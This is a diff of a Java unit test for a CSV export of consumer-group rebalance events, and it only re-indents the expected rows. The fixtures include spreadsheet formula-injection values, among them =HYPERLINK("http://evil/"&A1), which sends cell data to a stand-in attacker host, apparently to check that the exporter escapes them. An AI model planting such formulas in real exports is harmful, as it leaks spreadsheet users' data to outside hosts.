@@ -78,11 +78,11 @@ class ExportTest {
         assertThat(lines)
                 .containsExactly(
                         "group,id,started_at_utc,started_at_ms,completed_at_utc,completed_at_ms,duration_ms,error_ms,"
-                            + "precision,cause,cause_precision,culprits,from_epoch,to_epoch,moved,moves,handed_over,"
-                            + "at_risk,redelivered,acted_twice,detail,sentence",
+                                + "precision,cause,cause_precision,culprits,from_epoch,to_epoch,moved,moves,handed_over,"
+                                + "at_risk,redelivered,acted_twice,detail,sentence",
                         "team-1,4-2800,1970-01-01T00:00:01.000Z,1000,1970-01-01T00:00:02.800Z,2800,1800,0,exact,UNKNOWN,exact,'=1+1,3,4,1,users-4:"
-                            + " m-b to =1+1,users-4,12,,,'-1,\"A member made the group rebalance for an unknown"
-                            + " reason, so partition 4 moved from a member to a member. It took 1.8 s.\"",
+                                + " m-b to =1+1,users-4,12,,,'-1,\"A member made the group rebalance for an unknown"
+                                + " reason, so partition 4 moved from a member to a member. It took 1.8 s.\"",
                         "team-1,4-2800,1970-01-01T00:00:01.000Z,1000,1970-01-01T00:00:02.800Z,2800,1800,0,exact,"
                                 + "MEMBER_JOINED,exact,\"C (=HYPERLINK(\"\"http://evil/\"\"&A1))\",3,4,0,,users-4,12,,,"
                                 + "\"'+cmd, \"\"now\"\"\",\"C joined, and no partition moved. It took 1.8 s.\"");
